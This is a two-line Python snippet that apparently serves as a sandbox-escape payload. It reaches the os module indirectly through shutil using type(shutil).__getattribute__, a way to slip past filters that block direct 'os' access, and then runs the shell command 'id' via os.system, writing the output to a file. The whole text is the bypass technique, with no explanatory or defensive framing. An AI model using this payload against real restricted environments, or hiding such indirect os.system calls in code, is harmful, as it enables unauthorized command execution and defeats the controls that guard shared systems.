import shutil
type(shutil).__getattribute__(shutil, "os").system("id>pf")
